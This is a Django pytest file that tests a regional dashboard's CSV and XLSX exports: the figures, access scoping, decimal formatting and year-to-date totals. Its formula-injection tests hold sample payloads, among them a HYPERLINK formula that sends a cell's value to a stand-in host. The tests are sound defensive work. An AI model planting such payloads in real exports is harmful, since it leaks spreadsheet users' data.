"""Exports under /unduh/: each holds its page's numbers (worked out by hand from the test
data), as CSV and XLSX, with a header block, real numeric cells, permissions and scope,
formula injection neutralised, the performance workbook's year to date per measure, and
fixed query counts."""

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import time_machine
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from programs import ytd
from programs.models import FundingSource, Indicator, Program, Realization, Target
from programs.spreadsheets import exports
from regencies.models import Regency, UserScope
from tests.factories import (
    MonthlyReportFactory,
    RealizationFactory,
    UserFactory,
    UserScopeFactory,
)
from tests.helpers import add_synthetic_regencies, attribute, element_text, find_all, page

# Fixtures and data shared with the dashboard tests: the exports hold those pages' numbers.

D = Decimal
PERIOD = "?tahun=2024&bulan=12"


# --- Helpers ----------------------------------------------------------------------------


def body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content)


def read_csv(response, delimiter=";"):
    """(header block rows, table header, table rows) of a CSV export."""
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    data = body(response)
    assert data.startswith("\ufeff".encode())  # BOM: Excel reads it as UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))
    blank = rows.index([])
    return rows[:blank], rows[blank + 1], rows[blank + 2 :]


def read_xlsx(response):
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return openpyxl.load_workbook(io.BytesIO(body(response)))


def sheet_rows(sheet):
    """{first or second cell: row of cells} for a data sheet (key: regency code/name)."""
    rows = list(sheet.iter_rows(min_row=2))
    return {(r[0].value or r[1].value): r for r in rows}


def header(sheet) -> list[str]:
    return [c.value for c in next(sheet.iter_rows(max_row=1))]


def info(workbook) -> dict[str, str]:
    return {r[0]: (r[1] if len(r) > 1 else None) for r in workbook["Keterangan"].values}


def number(text: str) -> Decimal:
    return D(text.replace(",", "."))


def by_code(rows, column=0):
    return {r[column]: r for r in rows}


# --- Overview scorecard -----------------------------------------------------------------


# The 17 regencies by Kemendagri code, and in the GBRSS ranking of gbrss_data (with
# provisional figures): OKU 25 of 50 houses = 50 %, Banyuasin 25 of 100 = 25 %, then the
# fifteen without a GBRSS target by code.
CODES = [f"16.{n:02d}" for n in range(1, 14)] + ["16.71", "16.72", "16.73", "16.74"]
GBRSS_ORDER = ["16.01", "16.07"] + [c for c in CODES if c not in ("16.01", "16.07")]


def test_scorecard_csv_ranks_and_numbers_by_hand_with_header_block(client, gbrss_data, pimpinan):
    block, head, rows = read_csv(client.get(f"/unduh/rapor.csv{PERIOD}&urutkan=gbrss"))
    assert [(r[0], r[1]) for r in rows] == [(str(n), c) for n, c in enumerate(GBRSS_ORDER, 1)]
    column = head.index("GBRSS: capaian (%)")
    assert head[column + 1 : column + 3] == ["GBRSS: status", "GBRSS: sementara"]
    gbrss = {r[1]: r[column : column + 3] for r in rows}
    assert gbrss["16.01"] == ["50,00", "Tertinggal", "ya"]  # OKU's February is provisional
    assert gbrss["16.07"] == ["25,00", "Tertinggal", ""]
    assert {tuple(gbrss[c]) for c in GBRSS_ORDER[2:]} == {("", "Belum ada target", "")}
    flat = [";".join(r) for r in block]
    assert flat[0] == "Dasbor Gerakan Serentak Sumsel"
    assert "Tahun;2024" in flat and "Sampai bulan;Desember" in flat
    assert any(line.startswith("Data per;") and "WIB" in line for line in flat)
    assert any("Angka sementara (diajukan, belum diverifikasi)" in line for line in flat)
    assert any(line.startswith("Halaman;http://testserver/?tahun=2024") for line in flat)


def test_scorecard_export_counts_the_programs_each_regency_must_report_as_the_page(
    client, gbrss_data, pimpinan
):
    """The page's last column reads "0/5" for Banyuasin (GPISS: tidak wajib, the four BPS
    cities only); the export's "Jumlah program" said 6 for every regency (now "Program
    wajib lapor", out of which the on-track count is)."""
    shown = {}
    for row in find_all(page(client.get(f"/{PERIOD}")), "tr"):
        code = attribute(row, "data-regency")
        if code:
            shown[code] = element_text(find_all(row, "td")[-1])
    _block, head, rows = read_csv(client.get(f"/unduh/rapor.csv{PERIOD}"))
    assert head[-2:] == ["Program sesuai jadwal", "Program wajib lapor"]
    exported = {r[1]: f"{r[-2]}/{r[-1]}" for r in rows}
    assert exported["16.07"] == "0/5" and exported["16.71"] == "0/6"
    assert exported == shown
    sheet = read_xlsx(client.get(f"/unduh/rapor.xlsx{PERIOD}"))["Rapor"]
    banyuasin = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == "16.07")
    assert banyuasin[-1].value == 5


def test_scorecard_xlsx_has_numeric_cells_and_a_keterangan_sheet(client, gbrss_data, pimpinan):
    response = client.get(f"/unduh/rapor.xlsx{PERIOD}")
    assert response["Content-Disposition"] == 'attachment; filename="rapor-2024-12.xlsx"'
    workbook = read_xlsx(response)
    assert workbook.sheetnames == ["Keterangan", "Rapor"]
    sheet = workbook["Rapor"]
    assert sheet.freeze_panes == "D2"
    column = header(sheet).index("GBRSS: capaian (%)")
    oku = {r[1].value: r for r in sheet.iter_rows(min_row=2)}
    cell = oku["16.01"][column]
    assert cell.data_type == "n" and cell.value == pytest.approx(0.5)
    assert cell.number_format == "0.00%"
    assert oku["16.01"][0].data_type == "n"  # rank
    assert oku["16.07"][column].value == pytest.approx(0.25)
    notes = info(workbook)
    assert notes["Tahun"] == "2024" and notes["Sampai bulan"] == "Desember"
    assert "Angka sementara" in notes["Catatan"]
    assert "GBRSS" in notes  # each program's headline indicator is named


# --- Program table ----------------------------------------------------------------------


def test_program_export_holds_the_program_pages_rows_by_hand(client, gbrss_data, pimpinan):
    response = client.get(f"/unduh/program/gbrss.csv{PERIOD}")
    assert response["Content-Disposition"] == 'attachment; filename="gbrss-2024-12.csv"'
    block, head, rows = read_csv(response)
    assert head[:7] == [
        "Kode",
        "Kabupaten/kota",
        "Target (rumah)",
        "Realisasi (rumah)",
        "Sementara",
        "Capaian (%)",
        "Seharusnya s.d. 31 Desember 2024 (%)",  # the day of the period, not "kini"
    ]
    # The program page's order: the higher achievement first, then by code.
    assert [r[0] for r in rows[:-1]] == GBRSS_ORDER
    # Target and realization: OKU 50 and 5 + 20, Banyuasin 100 and 10 + 15; no others.
    assert {r[0]: (r[2], r[3]) for r in rows[:-1]} == {
        "16.01": ("50", "25"),
        "16.07": ("100", "25"),
        **{c: ("", "") for c in GBRSS_ORDER[2:]},
    }
    oku = by_code(rows)["16.01"]
    assert oku[2:6] == ["50", "25", "ya", "50,00"]
    # The latest report, and as on the page the months due without a submitted report:
    # January and February submitted, March to December not.
    assert head[8:] == [
        "Laporan terakhir",
        "Status laporan",
        "Ketepatan waktu",
        "Bulan belum diajukan",
    ]
    assert oku[8:] == ["Februari", "Diajukan", "tepat waktu", "10"]
    province = rows[-1]
    assert province[1] == "Provinsi Sumatera Selatan"
    assert province[8:] == ["", "", "", ""]
    assert province[2:5] == ["8391", "50", "ya"]  # no thousands separator in CSV
    assert ["Target belum dialokasikan", "8241"] in block

    workbook = read_xlsx(client.get(f"/unduh/program/gbrss.xlsx{PERIOD}"))
    sheet = workbook["rumah-dibedah"]
    rows = sheet_rows(sheet)
    banyuasin = rows["16.07"]
    assert [c.value for c in banyuasin[2:4]] == [100, 25]
    assert all(c.data_type == "n" for c in banyuasin[2:4])
    assert banyuasin[2].number_format == "#,##0"
    assert banyuasin[5].value == pytest.approx(0.25)
    assert rows["Provinsi Sumatera Selatan"][3].value == 50


def test_program_export_counts_the_months_missing_as_the_page_does(
    client, reporting_gaps, pimpinan
):
    """tests/programs/dashboards (reporting_gaps) worked the page's figures out by hand:
    on 30 November 2025, up to October, Banyuasin misses April to October (7), OKU four
    (its returned July, draft August, September and October), OKI four (May and June
    exempt), Lahat nothing due (exempt all year); visitors count only verified reports."""
    url = "/unduh/program/gbrss.{fmt}?tahun=2025&bulan=10"
    with time_machine.travel(dt.datetime(2025, 11, 30, 9, tzinfo=dt.UTC), tick=False):
        block, head, rows = read_csv(client.get(url.format(fmt="csv")))
        workbook = read_xlsx(client.get(url.format(fmt="xlsx")))
        public_block, public_head, public_rows = read_csv(Client().get(url.format(fmt="csv")))
        # Before October is due (on the 10th), it is not missing.
        with time_machine.travel(dt.datetime(2025, 11, 5, 9, tzinfo=dt.UTC), tick=False):
            _block, _head, early = read_csv(client.get(url.format(fmt="csv")))
    assert head[-4:] == [
        "Laporan terakhir",
        "Status laporan",
        "Ketepatan waktu",
        "Bulan belum diajukan",
    ]
    rows = by_code(rows)
    assert rows["16.07"][-4:] == ["Maret", "Terverifikasi", "tepat waktu", "7"]
    assert rows["16.01"][-4:] == ["Agustus", "Draf", "", "4"]
    assert rows["16.02"][-1] == "4"
    assert rows["16.04"][-1] == ""  # nothing due
    assert rows["16.03"][-1] == "10"
    assert by_code(early)["16.07"][-1] == "6"
    # The page's note under the table, in the header block.
    notes = [r[1] for r in block if r[0] == "Catatan"]
    assert any(
        n.startswith("Bulan belum diajukan: bulan yang sudah jatuh tempo s.d. Oktober")
        for n in notes
    )
    assert "Laporan suatu bulan jatuh tempo pada tanggal 10 bulan berikutnya." in notes

    sheet = workbook["rumah-dibedah"]
    assert header(sheet)[-1] == "Bulan belum diajukan"
    cells = sheet_rows(sheet)
    assert cells["16.07"][-1].value == 7 and cells["16.07"][-1].data_type == "n"
    assert cells["16.04"][-1].value is None

    assert public_head[-1] == "Bulan belum terverifikasi"
    public_rows = by_code(public_rows)
    assert public_rows["16.01"][-4:] == ["Maret", "Terverifikasi", "tepat waktu", "7"]
    assert public_rows["16.07"][-1] == "7"
    public_notes = [r[1] for r in public_block if r[0] == "Catatan"]
    assert any(n.startswith("Bulan belum terverifikasi: bulan yang") for n in public_notes)


def test_expected_columns_name_the_day_they_count_to(client, gbrss_data, pimpinan):
    """In the current month the expected figures count to today, as on the page; in
    English the column says the same day."""
    with time_machine.travel(dt.datetime(2026, 11, 29, 9, tzinfo=dt.UTC), tick=False):
        _block, head, _rows = read_csv(client.get("/unduh/wilayah/16.07.csv?tahun=2026&bulan=11"))
        assert "Seharusnya s.d. 29 November 2026 (%)" in head
        assert client.post("/bahasa/", {"language": "en", "next": "/"}).status_code == 302
        english = client.get("/unduh/program/gbrss.csv?tahun=2024&bulan=6")
        _block, head, _rows = read_csv(english, delimiter=",")
    assert "Expected by 30 June 2024 (%)" in head


def test_program_export_follows_the_indicator_tab_and_verified_switch(client, gbrss_data, pimpinan):
    response = client.get(f"/unduh/program/gbrss.csv{PERIOD}&terverifikasi=1")
    assert "gbrss-2024-12-terverifikasi.csv" in response["Content-Disposition"]
    block, _head, rows = read_csv(response)
    assert by_code(rows)["16.01"][3:5] == ["5", ""]
    assert rows[-1][3] == "30"
    assert ["Data", "Terverifikasi saja"] in block
    assert not any("Angka sementara" in ";".join(r) for r in block)

    response = client.get(f"/unduh/program/gpstss.xlsx{PERIOD}&indikator=balita-didampingi")
    assert "gpstss-balita-didampingi-2024-12.xlsx" in response["Content-Disposition"]
    assert read_xlsx(response).sheetnames == ["Keterangan", "balita-didampingi"]


def test_ratio_realization_is_a_number_with_the_indicator_decimals(client, reference_data):
    program = Program.objects.get(slug="gpstss")
    stunting = Indicator.objects.get(code="prevalensi-stunting")
    source = FundingSource.objects.get(code="tidak-dirinci")
    for code, num, den in [("16.07", 30, 200), ("16.01", 1, 10)]:
        rep = MonthlyReportFactory(
            program=program, regency=Regency.objects.get(code=code), year=2024, month=3
        )
        RealizationFactory(
            report=rep,
            indicator=stunting,
            funding_source=source,
            value=None,
            numerator=D(num),
            denominator=D(den),
        )
    url = f"/unduh/program/gpstss.csv{PERIOD}&indikator=prevalensi-stunting"
    _block, head, rows = read_csv(client.get(url))
    assert head[3] == "Realisasi (%)"
    assert rows[-1][3] == "14,76"  # 31 / 210, not an average of percentages
    sheet = read_xlsx(client.get(url.replace(".csv", ".xlsx")))["prevalensi-stunting"]
    province = sheet_rows(sheet)["Provinsi Sumatera Selatan"][3]
    assert province.value == pytest.approx(31 / 210 * 100)
    assert province.number_format == "#,##0.00"


# --- Regency table ----------------------------------------------------------------------


def test_regency_export_compares_with_the_province(client, gbrss_data, pimpinan):
    response = client.get(f"/unduh/wilayah/16.07.csv{PERIOD}")
    assert "wilayah-1607-2024-12.csv" in response["Content-Disposition"]
    block, head, rows = read_csv(response)
    # Every indicator of the shipped programs (fixtures/programs.json), in the page's order.
    assert [(r[0], r[1]) for r in rows] == [
        ("GPISS", "inflasi-yoy"),
        ("GPMSS", "pasar-murah"),
        ("GPSSS", "unit-sanitasi"),
        ("GPStSS", "prevalensi-stunting"),
        ("GPStSS", "balita-didampingi"),
        ("GBRSS", "rumah-dibedah"),
        ("GSMP", "desa-gsmp"),
        ("GSMP", "rumah-tangga-penerima"),
    ]
    houses = by_code(rows, 1)["rumah-dibedah"]
    assert houses[4:10] == ["100", "25", "", "25,00", "100,00", "Tertinggal"]
    assert houses[10:13] == ["8391", "50", "ya"]
    assert ["Kabupaten/kota", "Kab. Banyuasin (16.07)"] in block

    sheet = read_xlsx(client.get(f"/unduh/wilayah/16.07.xlsx{PERIOD}"))["Banyuasin"]
    houses = {r[1].value: r for r in sheet.iter_rows(min_row=2)}["rumah-dibedah"]
    assert [c.value for c in houses[4:6]] == [100, 25]
    assert houses[7].value == pytest.approx(0.25) and houses[7].data_type == "n"
    assert houses[11].value == 50
    assert client.get("/unduh/wilayah/99.99.csv").status_code == 404


# --- Completeness -----------------------------------------------------------------------


def test_completeness_export_states_counts_and_rates(client, gbrss_data, pimpinan):
    response = client.get("/unduh/kelengkapan.csv?tahun=2024&program=gbrss")
    assert "kelengkapan-gbrss-2024-12.csv" in response["Content-Disposition"]  # to December
    june = client.get("/unduh/kelengkapan.csv?tahun=2024&bulan=6&program=gbrss")
    assert "kelengkapan-gbrss-2024-06.csv" in june["Content-Disposition"]
    block, head, rows = read_csv(response)
    assert head[2:5] == ["Januari", "Februari", "Maret"]
    banyuasin = by_code(rows)["16.07"]
    assert banyuasin[2:5] == ["Terverifikasi", "Terverifikasi", "Belum masuk"]
    assert banyuasin[14:] == ["12", "2", "1", "16,67", "8,33"]
    # 17 x 12 due, less the January of 15 regencies (before GBRSS's launch, unreported).
    assert rows[-1][1] == "Semua kabupaten/kota" and rows[-1][14] == "189"
    assert not any("Angka sementara" in ";".join(r) for r in block)

    sheet = read_xlsx(client.get("/unduh/kelengkapan.xlsx?tahun=2024&program=gbrss"))["GBRSS"]
    oku = sheet_rows(sheet)["16.01"]
    assert [c.value for c in oku[2:4]] == ["Terverifikasi", "Diajukan tepat waktu"]
    assert oku[14].value == 12 and oku[14].data_type == "n"
    assert oku[17].value == pytest.approx(2 / 12)


def test_completeness_export_up_to_the_chosen_month(client, gbrss_data, pimpinan):
    block, head, rows = read_csv(
        client.get("/unduh/kelengkapan.csv?tahun=2024&bulan=2&program=gbrss")
    )
    assert ["Sampai bulan", "Februari"] in block
    assert head[2:4] == ["Januari", "Februari"] and "Maret" not in head
    banyuasin = by_code(rows)["16.07"]
    assert banyuasin[2:4] == ["Terverifikasi", "Terverifikasi"]
    assert banyuasin[4:] == ["2", "2", "1", "100,00", "50,00"]
    assert rows[-1][1] == "Semua kabupaten/kota" and rows[-1][4] == "19"  # 17 x 2 - 15


# --- Who may export what ----------------------------------------------------------------


def test_anonymous_exports_verified_numbers_only(client, gbrss_data):
    block, _head, rows = read_csv(client.get(f"/unduh/program/gbrss.csv{PERIOD}&terverifikasi=0"))
    assert by_code(rows)["16.01"][3] == "5"  # OKU's submitted 20 is not public
    assert rows[-1][3] == "30"
    assert ["Data", "Terverifikasi saja (akses publik)"] in block
    assert not any("Angka sementara" in ";".join(r) for r in block)
    workbook = read_xlsx(client.get(f"/unduh/rapor.xlsx{PERIOD}"))
    assert "Angka sementara" not in str(info(workbook).get("Catatan"))


def test_an_operators_export_says_operator_view_not_public_access(client, gbrss_data, operator):
    """An operator's download said "Terverifikasi saja (akses publik)": a logged-in
    official's file labelled as the public's. It names the operator's view now (in both
    languages); an anonymous visitor's still says public access."""
    client.force_login(operator)
    block, _head, _rows = read_csv(client.get(f"/unduh/program/gbrss.csv{PERIOD}"))
    assert ["Data", "Terverifikasi saja (tampilan operator)"] in block
    assert client.post("/bahasa/", {"language": "en", "next": "/"}).status_code == 302
    block, _head, _rows = read_csv(client.get(f"/unduh/program/gbrss.csv{PERIOD}"), delimiter=",")
    assert ["Data", "Verified only (operator view)"] in block
    block, _head, _rows = read_csv(Client().get(f"/unduh/program/gbrss.csv{PERIOD}"))
    assert ["Data", "Terverifikasi saja (akses publik)"] in block


def test_anonymous_and_roleless_users_cannot_export_raw_realizations(client, gbrss_data):
    response = client.get(f"/unduh/realisasi.csv{PERIOD}")
    assert response.status_code == 302
    assert response["Location"].startswith("/akun/masuk/")
    client.force_login(UserFactory())
    assert client.get(f"/unduh/realisasi.xlsx{PERIOD}").status_code == 403
    # a user without a role reads the public dashboards, and exports them verified only
    _block, _head, rows = read_csv(client.get(f"/unduh/program/gbrss.csv{PERIOD}"))
    assert rows[-1][3] == "30"


def test_private_dashboard_exports_need_a_login(client, gbrss_data, settings):
    settings.PUBLIC_DASHBOARD = False
    response = client.get(f"/unduh/rapor.csv{PERIOD}")
    assert response.status_code == 302 and response["Location"].startswith("/akun/masuk/")
    client.force_login(UserFactory())
    assert client.get(f"/unduh/rapor.csv{PERIOD}").status_code == 403


def test_raw_realizations_of_counted_reports_for_pimpinan(client, gbrss_data, pimpinan):
    response = client.get(f"/unduh/realisasi.csv{PERIOD}")
    assert "realisasi-2024-12.csv" in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
    block, head, rows = read_csv(response)
    assert head[:4] == ["Tahun", "Bulan", "Kode wilayah", "Kabupaten/kota"]
    # Banyuasin Jan + Feb, OKU Jan + Feb (submitted); Banyuasin's March draft is not counted
    assert sorted((r[2], r[1], r[11], r[14]) for r in rows) == [
        ("16.01", "1", "5", "Terverifikasi"),
        ("16.01", "2", "20", "Diajukan"),
        ("16.07", "1", "10", "Terverifikasi"),
        ("16.07", "2", "15", "Terverifikasi"),
    ]
    oku_feb = next(r for r in rows if r[2] == "16.01" and r[1] == "2")
    assert oku_feb[8:11] == ["apbn", "APBN", "APBN"] and oku_feb[15] == "ya"
    assert ["Lingkup", "Semua kabupaten/kota dan program"] in block

    verified = read_csv(client.get(f"/unduh/realisasi.csv{PERIOD}&terverifikasi=1"))[2]
    assert len(verified) == 3
    january = read_csv(client.get("/unduh/realisasi.csv?tahun=2024&bulan=1"))[2]
    assert {r[1] for r in january} == {"1"}
    other = read_csv(client.get(f"/unduh/realisasi.csv{PERIOD}&program=gpstss"))[2]
    assert other == []

    sheet = read_xlsx(client.get(f"/unduh/realisasi.xlsx{PERIOD}"))["Realisasi"]
    values = [r for r in sheet.iter_rows(min_row=2)]
    assert len(values) == 4
    assert all(r[11].data_type == "n" and r[0].data_type == "n" for r in values)
    # A year is a number shown without grouping: Excel showed "2.024" with #,##0.
    assert {(r[0].value, r[0].number_format) for r in values} == {(2024, "0")}


def test_raw_realizations_are_scoped_to_the_operator_and_verifier(client, gbrss_data, operator):
    client.force_login(operator)
    block, _head, rows = read_csv(client.get(f"/unduh/realisasi.csv{PERIOD}"))
    assert {r[2] for r in rows} == {"16.07"} and len(rows) == 2
    assert any(r[0] == "Lingkup" and "Kab. Banyuasin" in r[1] for r in block)
    sheet = read_xlsx(client.get(f"/unduh/realisasi.xlsx{PERIOD}"))["Realisasi"]
    assert {r[2].value for r in sheet.iter_rows(min_row=2)} == {"16.07"}

    scope = UserScopeFactory(role=UserScope.Role.VERIFIKATOR)
    scope.programs.set(Program.objects.filter(slug="gpstss"))
    client.force_login(scope.user)
    assert read_csv(client.get(f"/unduh/realisasi.csv{PERIOD}"))[2] == []


# --- Language -----------------------------------------------------------------------------

DECIMAL_COMMA = re.compile(r"-?[0-9]+,[0-9]+")

CSV_EXPORTS = [
    f"/unduh/rapor.csv{PERIOD}",
    f"/unduh/program/gbrss.csv{PERIOD}",
    f"/unduh/program/gpiss.csv{PERIOD}",
    f"/unduh/wilayah/16.07.csv{PERIOD}",
    f"/unduh/wilayah/16.71.csv{PERIOD}",
    "/unduh/kelengkapan.csv?tahun=2024&program=gbrss",
    f"/unduh/realisasi.csv{PERIOD}",
]


@pytest.mark.parametrize("url", CSV_EXPORTS)
def test_an_english_csv_writes_a_decimal_point(client, gbrss_data, pimpinan, url):
    """Under English headers every CSV export wrote "14,33" in a `;` separated file: each
    figure the Indonesian file writes with a decimal comma, the English one writes with a
    point, in the same place, and none keeps a comma; neither groups thousands (8391).
    The English file is comma separated, as an English Excel reads it."""
    palembang = Regency.objects.get(code="16.71")
    inflation = Indicator.objects.get(code="inflasi-yoy")
    Target.objects.create(indicator=inflation, regency=palembang, year=2024, value=D("2.5"))
    report = MonthlyReportFactory(
        program=inflation.program,
        regency=palembang,
        year=2024,
        month=3,
        status="verified",
        first_submitted_at=dt.datetime(2024, 4, 5, 9, tzinfo=dt.UTC),
        verified_at=dt.datetime(2024, 4, 20, 9, tzinfo=dt.UTC),
    )
    RealizationFactory(
        report=report,
        indicator=inflation,
        funding_source=FundingSource.objects.get(code="tidak-dirinci"),
        value=D("2.75"),
    )
    _block, _head, indonesian = read_csv(client.get(url))
    client.cookies["bahasa"] = "en"
    _block, head, english = read_csv(client.get(url), delimiter=",")
    assert head != _head  # the headers are English
    # Comma separated, as Excel in an English locale splits a file: the same columns.
    assert len(head) == len(_head) > 1
    assert [len(row) for row in english] == [len(row) for row in indonesian]
    decimals = [
        (r, c, value)
        for r, row in enumerate(indonesian)
        for c, value in enumerate(row)
        if DECIMAL_COMMA.fullmatch(value)
    ]
    assert decimals, "the Indonesian file has a figure with decimals"
    assert [english[r][c] for r, c, _v in decimals] == [v.replace(",", ".") for *_rc, v in decimals]
    assert not [value for row in english for value in row if DECIMAL_COMMA.fullmatch(value)]


# --- Formula injection ------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1"])
def test_text_cells_that_start_a_formula_are_neutralised(text):
    column = exports.Column("Catatan")
    assert exports.csv_cell(column, text) == "'" + text
    assert exports.csv_cell(column, "Rumah " + text) == "Rumah " + text  # only the start


def test_numbers_are_never_neutralised():
    number = exports.Column("Nilai", exports.NUMBER)
    assert exports.csv_cell(number, D("-5")) == "-5"
    assert exports.csv_cell(number, D("1250.5000")) == "1250,5"
    assert exports.csv_cell(exports.Column("x", exports.PERCENT, 2), D("14.7619")) == "14,76"


def test_formula_in_a_regency_note_is_neutralised_in_csv_and_xlsx(client, gbrss_data, pimpinan):
    formula = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
    Realization.objects.filter(report__regency_id="16.07", report__month=1).update(note=formula)
    _block, head, rows = read_csv(client.get(f"/unduh/realisasi.csv{PERIOD}"))
    note = head.index("Catatan")
    assert [r[note] for r in rows if r[2] == "16.07" and r[1] == "1"] == ["'" + formula]

    sheet = read_xlsx(client.get(f"/unduh/realisasi.xlsx{PERIOD}"))["Realisasi"]
    cell = next(
        r[16] for r in sheet.iter_rows(min_row=2) if r[2].value == "16.07" and r[1].value == 1
    )
    assert cell.data_type == "s" and cell.value == "'" + formula


def test_a_formula_behind_a_control_character_stays_text_in_xlsx_and_csv(
    client, gbrss_data, pimpinan
):
    """A workbook cannot hold a control character: dropping it used to uncover the formula
    behind it, which Excel then ran."""
    formula = '=HYPERLINK("http://contoh.invalid/","Klik")'
    Realization.objects.filter(report__regency_id="16.07", report__month=1).update(
        note="\x01" + formula
    )
    sheet = read_xlsx(client.get(f"/unduh/realisasi.xlsx{PERIOD}"))["Realisasi"]
    cell = next(
        r[16] for r in sheet.iter_rows(min_row=2) if r[2].value == "16.07" and r[1].value == 1
    )
    assert cell.data_type == "s" and cell.value == "'" + formula
    _block, head, rows = read_csv(client.get(f"/unduh/realisasi.csv{PERIOD}"))
    note = head.index("Catatan")
    assert [r[note] for r in rows if r[2] == "16.07" and r[1] == "1"] == ["'\x01" + formula]


@pytest.mark.parametrize("text", [" =1+1", "\u200b=1+1", "\x01@SUM(A1)", "\ufeff-1"])
def test_a_formula_start_behind_spaces_or_invisible_characters_is_neutralised(text):
    assert exports.csv_cell(exports.Column("Catatan"), text) == "'" + text


# --- Indicator performance workbook -----------------------------------------------------


def running_total_data():
    """Toddlers accompanied (a running total): Banyuasin reports 100 in January and 150
    in March (not February), OKU 40 in February."""
    indicator = Indicator.objects.get(code="balita-didampingi")
    source = FundingSource.objects.get(code="tidak-dirinci")
    for code, month, value in [("16.07", 1, 100), ("16.07", 3, 150), ("16.01", 2, 40)]:
        rep = MonthlyReportFactory(
            program=indicator.program,
            regency=Regency.objects.get(code=code),
            year=2024,
            month=month,
        )
        RealizationFactory(report=rep, indicator=indicator, funding_source=source, value=D(value))
    return indicator


def monthly(row, months):
    """[(month value, year to date), ...] from a performance sheet row."""
    return [(row[3 + 2 * i].value, row[4 + 2 * i].value) for i in range(months)]


def test_performance_workbook_has_a_sheet_per_indicator_with_running_total_ytd(
    client, gbrss_data, pimpinan
):
    indicator = running_total_data()
    response = client.get("/unduh/program/gpstss/kinerja.xlsx?tahun=2024&bulan=3")
    assert "kinerja-gpstss-2024-03.xlsx" in response["Content-Disposition"]
    workbook = read_xlsx(response)
    assert workbook.sheetnames == ["Keterangan", "prevalensi-stunting", "balita-didampingi"]
    sheet = workbook["balita-didampingi"]
    head = header(sheet)
    assert head[:5] == [
        "Kode",
        "Kabupaten/kota",
        "Target (balita)",
        "Januari: bulan ini",
        "Januari: s.d. bulan ini",
    ]
    assert head[-3:] == ["Capaian s.d. Maret (%)", "Status", "Sementara"]
    rows = sheet_rows(sheet)
    assert len(rows) == 18  # 17 regencies and the province
    # a running total's year to date is its latest report, never a sum of months
    assert monthly(rows["16.07"], 3) == [(100, 100), (None, 100), (150, 150)]
    assert monthly(rows["16.01"], 3) == [(None, None), (40, 40), (None, 40)]
    province = rows["Provinsi Sumatera Selatan"]
    assert monthly(province, 3) == [(100, 100), (40, 140), (150, 190)]
    assert province[2].value == 8377  # the sourced province target
    assert province[9].value == pytest.approx(190 / 8377)  # achievement: 190 of 8.377
    assert province[3].data_type == "n" and province[9].number_format == "0.00%"
    assert indicator.name in info(workbook)["Lembar balita-didampingi"]


def test_performance_workbook_says_tidak_wajib_as_the_program_page(client, gbrss_data):
    """GPISS is reported by the four BPS cities only: the workbook's status said "Belum
    ada target" for the thirteen others (and would rank one given a target behind),
    where the program page and its table export say "Tidak wajib"."""
    period = "?tahun=2024&bulan=12"
    workbook = read_xlsx(client.get(f"/unduh/program/gpiss/kinerja.xlsx{period}"))
    rows = sheet_rows(workbook["inflasi-yoy"])
    status = header(workbook["inflasi-yoy"]).index("Status")
    assert rows["16.07"][status].value == "Tidak wajib"
    assert rows["16.71"][status].value == "Belum ada target"  # reports, no target here
    _block, head, table = read_csv(client.get(f"/unduh/program/gpiss.csv{period}"))
    shown = {r[0]: r[head.index("Status")] for r in table if r[0]}
    assert shown["16.07"] == rows["16.07"][status].value


def test_performance_workbook_increment_ytd_is_the_cumulative_sum(client, gbrss_data, pimpinan):
    workbook = read_xlsx(client.get("/unduh/program/gbrss/kinerja.xlsx?tahun=2024&bulan=3"))
    assert workbook.sheetnames == ["Keterangan", "rumah-dibedah"]
    rows = sheet_rows(workbook["rumah-dibedah"])
    # Banyuasin: 10 in January, 15 in February; its March draft is not counted
    assert monthly(rows["16.07"], 3) == [(10, 10), (15, 25), (None, 25)]
    assert monthly(rows["16.01"], 3) == [(5, 5), (20, 25), (None, 25)]
    assert monthly(rows["Provinsi Sumatera Selatan"], 3) == [(15, 15), (35, 50), (None, 50)]
    assert rows["16.07"][2].value == 100 and rows["16.07"][9].value == pytest.approx(0.25)
    assert rows["16.01"][-1].value == "ya"
    verified = read_xlsx(
        client.get("/unduh/program/gbrss/kinerja.xlsx?tahun=2024&bulan=3&terverifikasi=1")
    )
    rows = sheet_rows(verified["rumah-dibedah"])
    assert monthly(rows["Provinsi Sumatera Selatan"], 3) == [(15, 15), (15, 30), (None, 30)]
    assert client.get("/unduh/program/mandiri-energi/kinerja.xlsx").status_code == 404
    assert client.get("/unduh/program/gbrss/kinerja.csv").status_code == 404


# --- Responses and links ----------------------------------------------------------------


def test_unknown_format_or_program_is_not_found(client, gbrss_data):
    assert client.get("/unduh/rapor.pdf").status_code == 404
    assert client.get("/unduh/program/tidak-ada.csv").status_code == 404
    assert client.post(f"/unduh/rapor.csv{PERIOD}").status_code == 405


def test_exports_are_private_attachments_that_vary_on_the_login(client, gbrss_data):
    response = client.get(f"/unduh/rapor.csv{PERIOD}")
    assert response["Content-Disposition"].startswith("attachment;")
    assert "private" in response["Cache-Control"]
    assert "Cookie" in response["Vary"]
    body(response)


def download_links(response) -> list[str]:
    """The hrefs of the page's links to an export (/unduh/), in page order."""
    hrefs = (attribute(a, "href") or "" for a in find_all(page(response), "a"))
    return [href for href in hrefs if href.startswith("/unduh/")]


@pytest.mark.parametrize(
    ("url", "links"),
    [
        ("/", ["/unduh/rapor.csv?tahun=2024&bulan=12", "/unduh/rapor.xlsx?tahun=2024&bulan=12"]),
        (
            "/program/gbrss/",
            [
                "/unduh/program/gbrss.csv?tahun=2024&bulan=12",
                "/unduh/program/gbrss.xlsx?tahun=2024&bulan=12",
                "/unduh/program/gbrss/kinerja.xlsx?tahun=2024&bulan=12",
            ],
        ),
        (
            "/wilayah/16.07/",
            [
                "/unduh/wilayah/16.07.csv?tahun=2024&bulan=12",
                "/unduh/wilayah/16.07.xlsx?tahun=2024&bulan=12",
            ],
        ),
        (
            "/kelengkapan/",
            [
                "/unduh/kelengkapan.csv?tahun=2024&bulan=12&program=gbrss",
